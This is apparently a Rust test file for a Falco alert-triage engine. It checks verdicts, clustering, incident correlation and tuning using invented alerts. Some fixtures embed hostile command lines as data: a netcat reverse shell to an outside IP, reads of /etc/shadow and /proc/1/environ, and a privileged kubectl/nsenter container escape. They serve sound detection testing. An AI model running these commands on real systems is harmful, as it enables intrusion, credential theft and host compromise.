//! Scenario fixtures for verdicts, de-duplication, incidents and tuning (written for these
//! tests; values invented).

use fa_analyze::engine::{Analyzer, Engine, EngineConfig};
use fa_analyze::tune;
use fa_model::{Alert, VerdictKind};
use serde_json::json;

fn analyzer() -> Analyzer {
    Analyzer::load(&[]).expect("built-in knowledge base loads")
}

fn alert(v: serde_json::Value) -> Alert {
    serde_json::from_value(v).expect("fixture is a valid alert")
}

fn container_fields(extra: serde_json::Value) -> serde_json::Value {
    let mut base = json!({
        "container.id": "5c2d9a7e13f0",
        "container.name": "shop-frontend",
        "container.image.repository": "registry.example.com/shop/frontend",
        "container.image.tag": "2.4.1",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "frontend-7d9f8c6b5-x2kqp",
        "user.name": "root",
        "user.uid": 0,
        "proc.tty": 0
    });
    if let (Some(b), Some(e)) = (base.as_object_mut(), extra.as_object()) {
        for (k, v) in e {
            b.insert(k.clone(), v.clone());
        }
    }
    base
}

fn attack_chain() -> Vec<Alert> {
    vec![
        alert(
            json!({"time": "2026-03-02T10:00:00Z", "rule": "Run shell untrusted", "priority": "Notice", "source": "syscall", "hostname": "node-3",
            "tags": ["mitre_execution", "T1059.004"],
            "output_fields": container_fields(json!({"proc.name": "bash", "proc.cmdline": "bash -c id", "proc.pname": "nginx", "proc.exepath": "/bin/bash", "evt.type": "execve"}))}),
        ),
        alert(
            json!({"time": "2026-03-02T10:01:10Z", "rule": "Read environment variable from /proc files", "priority": "Warning", "source": "syscall", "hostname": "node-3",
            "tags": ["mitre_discovery", "T1083"],
            "output_fields": container_fields(json!({"proc.name": "cat", "proc.cmdline": "cat /proc/1/environ", "proc.pname": "bash", "fd.name": "/proc/1/environ", "evt.type": "openat"}))}),
        ),
        alert(
            json!({"time": "2026-03-02T10:02:30Z", "rule": "Read sensitive file untrusted", "priority": "Warning", "source": "syscall", "hostname": "node-3",
            "tags": ["mitre_credential_access", "T1555"],
            "output_fields": container_fields(json!({"proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "proc.pname": "bash", "fd.name": "/etc/shadow", "evt.type": "openat"}))}),
        ),
        alert(
            json!({"time": "2026-03-02T10:03:05Z", "rule": "Netcat Remote Code Execution in Container", "priority": "Warning", "source": "syscall", "hostname": "node-3",
            "tags": ["mitre_execution", "T1059"],
            "output_fields": container_fields(json!({"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "proc.pname": "bash", "evt.type": "execve"}))}),
        ),
    ]
}

#[test]
fn attack_chain_in_one_container_is_one_malicious_incident() {
    let mut engine = Engine::new(analyzer(), EngineConfig::default());
    for a in attack_chain() {
        engine.process(a);
    }
    let done = engine.finish(0);
    assert_eq!(
        done.incidents.len(),
        1,
        "one incident: {:#?}",
        done.incidents
    );
    let inc = &done.incidents[0];
    assert_eq!(inc.entity, "container:5c2d9a7e13f0");
    assert_eq!(inc.alert_count, 4);
    assert_eq!(inc.timeline.len(), 4);
    assert_eq!(
        inc.verdict.kind,
        VerdictKind::Malicious,
        "{:#?}",
        inc.verdict
    );
    assert_eq!(inc.tactics.first().map(String::as_str), Some("Execution"));
    assert!(
        inc.tactics.iter().any(|t| t == "Credential Access"),
        "{:?}",
        inc.tactics
    );
    // The later alerts know their container is escalating.
    let last = done
        .reports
        .iter()
        .map(|e| &e.report)
        .find(|r| r.event.rule == "Netcat Remote Code Execution in Container")
        .unwrap();
    let v = last.verdict.as_ref().unwrap();
    assert!(
        v.reasons
            .iter()
            .any(|r| r.field.as_deref() == Some("incident")),
        "{:#?}",
        v.reasons
    );
}

#[test]
fn alerts_outside_the_window_are_separate_incidents() {
    let mut engine = Engine::new(
        analyzer(),
        EngineConfig {
            window: chrono::Duration::seconds(30),
            ..Default::default()
        },
    );
    for a in attack_chain() {
        engine.process(a);
    }
    // Every gap in the chain is longer than 30 s: no incident has two alerts.
    assert!(engine.finish(0).incidents.is_empty());
}

fn calico(i: u32) -> Alert {
    alert(
        json!({"time": format!("2026-03-02T11:{:02}:{:02}Z", (i / 60) % 60, i % 60), "rule": "Run shell untrusted", "priority": "Notice",
        "source": "syscall", "hostname": "node-1", "tags": ["mitre_execution", "T1059.004"],
        "output_fields": {"proc.name": "sh", "proc.cmdline": "sh -c ip link del calico_tmp_A || true", "proc.pname": "calico",
            "proc.exepath": "/bin/sh", "proc.pexepath": "/opt/cni/bin/calico", "user.name": "root", "user.uid": 0,
            "container.id": "host", "proc.pid": 4000 + i}}),
    )
}

#[test]
fn calico_cleanup_storm_is_one_benign_cluster_with_a_tuning_exception() {
    let a = analyzer();
    let mut engine = Engine::new(a.clone(), EngineConfig::default());
    for i in 0..1000 {
        assert!(
            engine.process(calico(i)).is_empty(),
            "no report before the cluster closes"
        );
    }
    let done = engine.finish(0);
    assert_eq!(done.reports.len(), 1);
    assert_eq!(done.clusters.len(), 1);
    let r = &done.reports[0].report;
    assert_eq!(r.cluster.as_ref().map(|c| c.count), Some(1000));
    let v = r.verdict.as_ref().unwrap();
    assert_eq!(v.kind, VerdictKind::Benign, "{:#?}", v);
    assert!(
        v.reasons
            .iter()
            .any(|r| r.text.to_lowercase().contains("calico")),
        "{:#?}",
        v.reasons
    );
    let (yaml, n) = tune::rules_file(&a, &done.clusters, 10);
    assert_eq!(n, 1, "{yaml}");
    assert!(yaml.contains("- rule: \"Run shell untrusted\""), "{yaml}");
    assert!(yaml.contains("exceptions: append"), "{yaml}");
    assert!(yaml.contains("# 1000 alerts;"), "{yaml}");
    assert!(yaml.contains("calico"), "{yaml}");
}

#[test]
fn tune_never_proposes_exceptions_for_suspicious_or_malicious_clusters() {
    let a = analyzer();
    let mut engine = Engine::new(a.clone(), EngineConfig::default());
    for _ in 0..20 {
        for al in attack_chain() {
            engine.process(al);
        }
    }
    let done = engine.finish(0);
    assert!(done
        .clusters
        .iter()
        .all(|c| c.verdict != VerdictKind::Benign));
    let (yaml, n) = tune::rules_file(&a, &done.clusters, 1);
    assert_eq!(n, 0, "{yaml}");
    assert!(!yaml.contains("- rule:"));
}

#[test]
fn event_generator_alerts_are_benign_test_events() {
    let a = analyzer();
    let text =
        fa_testdata::read_to_string(&fa_testdata::alerts("elastic-falco-pipeline-test.jsonl"));
    let mut n = 0;
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        let al: Alert = serde_json::from_str(line).expect("well-formed alert");
        let r = a.report(&al);
        let v = r.verdict.unwrap();
        assert_eq!(v.kind, VerdictKind::Benign, "{}: {:#?}", al.rule, v);
        assert!(
            v.reasons.iter().any(|r| r.text.contains("event-generator")),
            "{:#?}",
            v.reasons
        );
        n += 1;
    }
    assert!(n >= 10);
}

#[test]
fn unknown_custom_rule_stays_suspicious_with_an_honest_reason() {
    let al = alert(
        json!({"time": "2026-03-02T12:00:00Z", "rule": "Acme: payroll export touched", "priority": "Warning",
        "source": "syscall", "tags": ["acme"], "output_fields": {"proc.name": "python3", "fd.name": "/srv/payroll/export.csv"}}),
    );
    let r = analyzer().report(&al);
    let v = r.verdict.unwrap();
    assert_eq!(v.kind, VerdictKind::Suspicious);
    assert!(
        v.reasons
            .iter()
            .any(|r| r.text.contains("not in the knowledge base")),
        "{:#?}",
        v.reasons
    );
    assert!(!r.knowledge.as_ref().unwrap().curated);
    assert!(
        r.mitigations.is_empty(),
        "no invented mitigations for an unknown rule"
    );
}

#[test]
fn a_storm_of_identical_alerts_is_one_cluster_and_memory_stays_bounded() {
    let mut engine = Engine::new(
        analyzer(),
        EngineConfig {
            max_clusters: 100,
            ..Default::default()
        },
    );
    for i in 0..100_000u32 {
        engine.process(calico(i % 3600));
    }
    // Distinct fingerprints beyond the cap are evicted and counted, never lost.
    for i in 0..150u32 {
        engine.process(alert(json!({"rule": "Acme custom", "priority": "Notice", "hostname": format!("h{i}"), "output_fields": {"proc.cmdline": format!("job-{}", (b'a' + (i % 26) as u8) as char)}})));
    }
    let done = engine.finish(0);
    assert_eq!(done.stats.alerts, 100_150);
    assert_eq!(done.summary.clusters, 151);
    assert_eq!(done.summary.clusters_evicted, 51);
    assert_eq!(done.clusters.len(), 100);
    let calico = done.summary.top_clusters.first().unwrap();
    assert_eq!(calico.count, 100_000);
}

#[test]
fn repeats_fold_into_one_timeline_entry_and_the_summary_lists_the_worst_incidents() {
    let mut engine = Engine::new(analyzer(), EngineConfig::default());
    // The attack chain, with its shell repeated 500 times in the same minute.
    let chain = attack_chain();
    engine.process(chain[0].clone());
    for _ in 0..500 {
        engine.process(chain[0].clone());
    }
    for a in &chain[1..] {
        engine.process(a.clone());
    }
    // 30 benign two-alert incidents on other hosts (Calico housekeeping).
    for h in 0..30u32 {
        for i in 0..2 {
            let mut c = serde_json::to_value(calico(i)).unwrap();
            c["hostname"] = json!(format!("node-{}", 100 + h));
            engine.process(alert(c));
        }
    }
    let done = engine.finish(0);
    let attack = done
        .incidents
        .iter()
        .find(|i| i.entity == "container:5c2d9a7e13f0")
        .expect("the attack chain is an incident");
    assert_eq!(attack.alert_count, 504);
    assert_eq!(attack.timeline.len(), 4, "{:#?}", attack.timeline);
    assert_eq!(attack.timeline[0].count, 501);
    assert_eq!(attack.timeline[1].count, 1);
    assert_eq!(attack.timeline_omitted, 0);

    assert_eq!(done.summary.incidents_total, 31);
    assert_eq!(done.summary.incidents.len(), 20);
    assert_eq!(
        done.summary.incidents[0].entity, "container:5c2d9a7e13f0",
        "the malicious incident comes first"
    );
    assert_eq!(
        done.summary.incidents[0].verdict.kind,
        VerdictKind::Malicious
    );
}

/// Feed one alert to a tracker as the service's correlator does.
fn track(a: &Analyzer, t: &mut fa_analyze::incident::IncidentTracker, alert: &Alert) {
    use fa_analyze::incident::entity_of;
    let entity = entity_of(alert);
    let rule = a.rule_for(alert);
    let tactics = a.tactics(alert, rule);
    t.observe(&entity, alert, &tactics, &a.scoring);
    let ctx = fa_analyze::verdict::Context {
        cluster_count: 1,
        escalating_incident: None,
        ..Default::default()
    };
    let v = a.verdict(alert, rule, &ctx);
    let fp = fa_analyze::fingerprint::fingerprint(alert);
    t.record(&entity, fp, alert, &v, || {
        (alert.rule.to_string(), alert.rule.to_string())
    });
}

#[test]
fn an_incident_taken_up_from_its_stored_report_continues_as_if_never_interrupted() {
    use fa_analyze::incident::{entity_of, incident_report, IncidentTracker};
    let a = analyzer();
    let window = chrono::Duration::minutes(10);
    let mut alerts = attack_chain();
    // A repeat of the first activity: it folds into that activity's timeline entry.
    let mut repeat = alerts[0].clone();
    repeat.time = Some("2026-03-02T10:04:00Z".parse().unwrap());
    alerts.push(repeat);
    let entity = entity_of(&alerts[0]);

    let mut whole = IncidentTracker::new(window, 100, 100);
    for al in &alerts {
        track(&a, &mut whole, al);
    }
    let expected = incident_report(whole.open_incident(&entity).unwrap(), &a.scoring, &a.kb);

    // The same alerts with a restart after the third: the stored report (through JSON, as the
    // store keeps it) is all the second run has.
    let mut before = IncidentTracker::new(window, 100, 100);
    for al in &alerts[..3] {
        track(&a, &mut before, al);
    }
    let stored = incident_report(before.open_incident(&entity).unwrap(), &a.scoring, &a.kb);
    let stored: fa_model::IncidentReport =
        serde_json::from_str(&serde_json::to_string(&stored).unwrap()).unwrap();
    let mut after = IncidentTracker::new(window, 100, 100);
    assert!(after.resume(&stored, &a.scoring, &a.kb));
    assert!(
        !after.resume(&stored, &a.scoring, &a.kb),
        "an entity keeps the incident it has open"
    );
    for al in &alerts[3..] {
        track(&a, &mut after, al);
    }
    let got = incident_report(after.open_incident(&entity).unwrap(), &a.scoring, &a.kb);
    assert_eq!(got, expected);
    assert_eq!(got.alert_count, 5);
    assert_eq!(got.timeline[0].count, 2, "{:#?}", got.timeline);

    // Past the window, the resumed incident is closed and the entity starts another.
    let mut late = alerts[0].clone();
    late.time = Some("2026-03-02T11:00:00Z".parse().unwrap());
    track(&a, &mut after, &late);
    let next = after.open_incident(&entity).unwrap();
    assert_ne!(next.id, stored.id);
    assert_eq!(next.alert_count, 1);
    let done = after.finish();
    assert_eq!(done.len(), 1);
    assert_eq!(done[0].id, stored.id);
    assert_eq!(done[0].alert_count, 5);
}

/// A test tool firing rules of every stage in a container, then one unknown alert there: the
/// known-benign alerts are no steps of an intrusion, so they neither make tactics "progress"
/// nor count as distinct rules, and the one real alert is judged on its own.
#[test]
fn known_benign_alerts_never_make_an_incident_escalate() {
    let a = analyzer();
    let text =
        fa_testdata::read_to_string(&fa_testdata::alerts("elastic-falco-pipeline-test.jsonl"));
    let mut engine = Engine::new(
        a,
        EngineConfig {
            every_alert: true,
            ..EngineConfig::default()
        },
    );
    let mut container = None;
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        let al: Alert = serde_json::from_str(line).expect("well-formed alert");
        if let Some(c) = al.field("container.id") {
            container = Some(c.to_string());
        }
        for e in engine.process(al) {
            assert_eq!(e.report.verdict.map(|v| v.kind), Some(VerdictKind::Benign));
        }
    }
    let container = container.expect("the generator ran in a container");
    let last = alert(json!({
        "time": "2024-05-07T18:56:00Z", "rule": "Custom outbound beacon", "priority": "Warning",
        "source": "syscall", "hostname": "97ade2b595f0",
        "tags": ["mitre_command_and_control"],
        "output_fields": {"container.id": container, "proc.name": "curl", "proc.cmdline": "curl https://example.com/"}
    }));
    let out = engine.process(last);
    let v = out[0].report.verdict.clone().expect("a verdict");
    assert!(
        !v.reasons
            .iter()
            .any(|r| r.field.as_deref() == Some("incident")),
        "no escalation from benign alerts: {:#?}",
        v.reasons
    );
    let done = engine.finish(0);
    let inc = done
        .incidents
        .iter()
        .find(|i| i.entity == format!("container:{container}"))
        .expect("the container's incident");
    assert_ne!(
        inc.verdict.kind,
        VerdictKind::Malicious,
        "{:#?}",
        inc.verdict
    );
    assert!(
        !inc.verdict
            .reasons
            .iter()
            .any(|r| r.text.contains("progressed") || r.text.contains("distinct rules")),
        "{:#?}",
        inc.verdict.reasons
    );
}

/// One alert whose rule maps to tactics of two stages (execution and persistence) is one step,
/// not a progression: repeats of it on one host never escalate; a later alert of a later stage does.
#[test]
fn one_rule_mapped_to_two_stages_is_not_a_progression() {
    let a = analyzer();
    let mut engine = Engine::new(
        a,
        EngineConfig {
            every_alert: true,
            ..EngineConfig::default()
        },
    );
    let step = |t: &str, tags: serde_json::Value, rule: &str| {
        alert(
            json!({"time": t, "rule": rule, "priority": "Warning", "source": "syscall",
            "hostname": "node-9", "tags": tags,
            "output_fields": {"proc.name": "sh", "proc.cmdline": "sh -c true", "user.name": "root"}}),
        )
    };
    for t in ["2026-03-02T10:00:00Z", "2026-03-02T10:00:05Z"] {
        let out = engine.process(step(
            t,
            json!(["mitre_execution", "mitre_persistence"]),
            "Custom two-stage rule",
        ));
        let v = out[0].report.verdict.clone().expect("a verdict");
        assert!(
            !v.reasons
                .iter()
                .any(|r| r.field.as_deref() == Some("incident")),
            "{:#?}",
            v.reasons
        );
    }
    let out = engine.process(step(
        "2026-03-02T10:01:00Z",
        json!(["mitre_exfiltration"]),
        "Custom exfiltration rule",
    ));
    let v = out[0].report.verdict.clone().expect("a verdict");
    assert!(
        v.reasons
            .iter()
            .any(|r| r.field.as_deref() == Some("incident")),
        "a later stage after an earlier one escalates: {:#?}",
        v.reasons
    );
}

/// An attacker in one container starts a privileged pod with a host shell: the new pod's
/// shell is another workload, but the same namespace saw attack evidence minutes before.
#[test]
fn attack_evidence_carries_over_to_other_workloads_of_its_namespace() {
    let a = analyzer();
    let mut engine = Engine::new(
        a,
        EngineConfig {
            every_alert: true,
            ..EngineConfig::default()
        },
    );
    let kubectl = alert(
        json!({"time": "2026-03-02T11:46:21Z", "rule": "Kubernetes Client Tool Launched in Container",
        "priority": "Warning", "source": "syscall", "hostname": "gke-node-1",
        "output_fields": {"container.id": "b1814c27d1d2", "k8s.ns.name": "prd", "k8s.pod.name": "dashboard-1",
            "proc.name": "kubectl", "proc.pname": "bash",
            "proc.cmdline": "kubectl run r00t1 --restart=Never -ti --rm --image lol --overrides {\"spec\":{\"hostPID\": true, \"containers\":[{\"name\":\"1\",\"image\":\"alpine\",\"command\":[\"nsenter\",\"--mount=/proc/1/ns/mnt\",\"--\",\"/bin/bash\"],\"stdin\": true,\"tty\":true,\"securityContext\":{\"privileged\":true}}]}}"}}),
    );
    let first = engine.process(kubectl);
    assert_eq!(
        first[0].report.verdict.as_ref().map(|v| v.kind),
        Some(VerdictKind::Malicious)
    );
    let shell = |ns: &str, id: &str, host: &str| {
        alert(
            json!({"time": "2026-03-02T11:46:23Z", "rule": "Terminal shell in container",
            "priority": "Notice", "source": "syscall", "hostname": host,
            "output_fields": {"container.id": id, "k8s.ns.name": ns, "k8s.pod.name": "r00t1",
                "proc.name": "bash", "proc.cmdline": "bash", "proc.tty": 34816, "user.name": "root"}}),
        )
    };
    let v = engine.process(shell("prd", "3af88f406740", "gke-node-1"))[0]
        .report
        .verdict
        .clone()
        .expect("a verdict");
    assert!(
        v.reasons.iter().any(|r| r.text.contains("same namespace")),
        "{:#?}",
        v.reasons
    );
    let other = engine.process(shell("web", "0123456789ab", "gke-node-2"))[0]
        .report
        .verdict
        .clone()
        .expect("a verdict");
    assert!(
        !other
            .reasons
            .iter()
            .any(|r| r.text.contains("attack evidence")),
        "{:#?}",
        other.reasons
    );
}

/// Plain-text k8s_audit alerts print `user=%ka.user.name`: once the rule is recovered, the
/// text's `user` is the API server's authenticated user, not a process user.
#[test]
fn a_text_k8s_audit_alert_reads_its_user_as_the_api_user() {
    let a = analyzer();
    // Kris Nova's runtime-security CTF write-up (falco.org, 2020).
    let line = "02:56:45.139533056: Notice Attach/Exec to pod (user=system:unsecured pod=falco-ds-zdsgm ns=falco action=exec command=%2Fbin%2Fbash)";
    let al = fa_ingest::parse_plain_line(line).expect("a Falco text line");
    let r = a.report(&al);
    let v = r.verdict.expect("a verdict");
    assert_eq!(v.kind, VerdictKind::Malicious, "{:#?}", v.reasons);
    assert!(
        !v.reasons.iter().any(|r| r.text.contains("runs as root")),
        "{:#?}",
        v.reasons
    );
    let mut named = al.clone();
    assert!(a.name_rule(&mut named));
    assert_eq!(
        named.field("ka.user.name").as_deref(),
        Some("system:unsecured")
    );
    assert_eq!(named.field("ka.target.namespace").as_deref(), Some("falco"));
    assert!(named.field("user.name").is_none());
}
